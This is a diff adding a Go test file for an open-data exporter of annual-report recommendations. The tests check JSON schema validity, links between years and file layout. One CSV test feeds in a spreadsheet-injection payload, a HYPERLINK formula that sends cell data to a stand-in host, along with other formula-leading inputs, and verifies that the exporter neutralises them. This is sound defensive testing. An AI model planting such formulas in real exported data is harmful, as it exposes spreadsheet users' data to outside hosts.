@@ -1,0 +1,154 @@
+package opendata
+
+import (
+	"bytes"
+	"encoding/csv"
+	"os"
+	"path"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/santhosh-tekuri/jsonschema/v6"
+
+	"annualreport/tools/report"
+)
+
+// library reads the real reports.
+func library(t *testing.T) *report.Library {
+	t.Helper()
+	lib, err := report.Load(os.DirFS("../.."), time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return lib
+}
+
+// file makes a library's files and gives one.
+func file(t *testing.T, lib *report.Library, address, name string) []byte {
+	t.Helper()
+	files, err := Files(lib, address)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range files {
+		if f.Name == name {
+			return f.Bytes
+		}
+	}
+	t.Fatalf("there is no %s", name)
+	return nil
+}
+
+// The data is right by the schema that is published with it, and the schema
+// tells what is not.
+func TestSchema(t *testing.T) {
+	compiler := jsonschema.NewCompiler()
+	compiler.AssertFormat()
+	document, err := jsonschema.UnmarshalJSON(bytes.NewReader(Schema))
+	if err == nil {
+		err = compiler.AddResource(SchemaFile, document)
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	schema, err := compiler.Compile(SchemaFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	judge := func(text string) error {
+		value, err := jsonschema.UnmarshalJSON(strings.NewReader(text))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return schema.Validate(value)
+	}
+	for _, address := range []string{"", "https://www.example.org/report/"} {
+		if err := judge(string(file(t, library(t), address, "2014/report.json"))); err != nil {
+			t.Error(err)
+		}
+	}
+	good := string(file(t, library(t), "", "2014/report.json"))
+	for _, wrong := range [][2]string{
+		{`"version": 1`, `"version": 2`}, {`"status": "in progress"`, `"status": "done"`}, {`"date": "2014-10-22"`, `"date": "22 October 2014"`},
+		{`"number": 1,`, `"number": "1",`}, {`"wording"`, `"words"`}, {`"source": "https:`, `"source": " `},
+	} {
+		if judge(strings.Replace(good, wrong[0], wrong[1], 1)) == nil {
+			t.Errorf("the schema lets %s pass", wrong[1])
+		}
+	}
+	if err := judge(strings.Replace(good, `"version": 1`, `"version": 1, "added": true`, 1)); err != nil {
+		t.Errorf("a name that is new breaks the schema: %v", err)
+	}
+}
+
+// Whatever an editor writes comes out of the tables as it was, and nothing
+// that a spreadsheet could run.
+func TestTables(t *testing.T) {
+	for _, text := range []string{
+		"plain", `with "quotes", commas; and more`, "two\nlines", `=HYPERLINK("https://example.org/?"&A1,"Open")`, "+44 113", "-1", "@SUM(A1)", "\tindented", "'quoted'", "’tis — “so”",
+	} {
+		lib := library(t)
+		lib.Reports[0].Recommendations[0].Wording = text
+		raw := file(t, lib, "", "2014/recommendations.csv")
+		if !bytes.HasPrefix(raw, []byte("\ufeffyear,number,id,")) || bytes.Count(raw, []byte("\n")) != bytes.Count(raw, []byte("\r\n")) {
+			t.Errorf("%q: the table begins with %.40q, or a line does not end with CRLF", text, raw)
+		}
+		rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
+		if err != nil || len(rows) != 3 {
+			t.Fatalf("%q: %d rows: %v", text, len(rows), err)
+		}
+		for _, row := range rows {
+			for _, cell := range row {
+				if strings.IndexAny(cell, "=+-@\t\r") == 0 {
+					t.Errorf("a cell begins with a sign of formulas: %q", cell)
+				}
+			}
+		}
+		if got := rows[1][4]; got != text && got != "'"+text {
+			t.Errorf("%q comes out as %q", text, got)
+		}
+	}
+}
+
+// Items of two years name each other; only where there is a next report is one
+// closed.
+func TestThreads(t *testing.T) {
+	lib := library(t)
+	next := lib.Reports[0]
+	next.Year = "2015"
+	next.Challenges = nil
+	next.Recommendations = []report.Recommendation{next.Recommendations[0]}
+	next.Recommendations[0].ID = "families"
+	next.Recommendations[0].Follows = "2014/think-family"
+	next.Recommendations[0].Closed = "Not asked again."
+	lib.Reports[0].Recommendations[1].Closed = "Done by others."
+	lib.Reports = []report.Report{next, lib.Reports[0]}
+
+	old := newMaker(lib, lib.Reports[1], "").report().Recommendations
+	if got := old[0].FollowedBy; got == nil || *got != (Other{2015, "families", "../2015/recommendations/#recommendation-families"}) || old[0].Follows != nil {
+		t.Errorf("the first one is followed by %v", got)
+	}
+	if old[1].FollowedBy != nil || old[1].Closed != "Done by others." {
+		t.Errorf("the second one: %+v", old[1])
+	}
+	young := newMaker(lib, lib.Reports[0], "https://example.org/").report().Recommendations[0]
+	if got := young.Follows; got == nil || *got != (Other{2014, "think-family", "https://example.org/2014/recommendations/#recommendation-think-family"}) || young.Closed != "" {
+		t.Errorf("the new one follows %v, and is closed: %q", got, young.Closed)
+	}
+}
+
+// Files stand in their reports' folders. Drafts have none.
+func TestFiles(t *testing.T) {
+	lib := library(t)
+	lib.Drafts = []report.Draft{{Report: report.Report{Year: "2015"}}}
+	files, err := Files(lib, "")
+	if err != nil || len(files) != 1+3*len(lib.Reports) {
+		t.Fatalf("%d files: %v", len(files), err)
+	}
+	for _, f := range files {
+		if dir := path.Dir(f.Name); dir == "2015" || len(f.Bytes) == 0 {
+			t.Errorf("%s has %d bytes", f.Name, len(f.Bytes))
+		}
+	}
+}
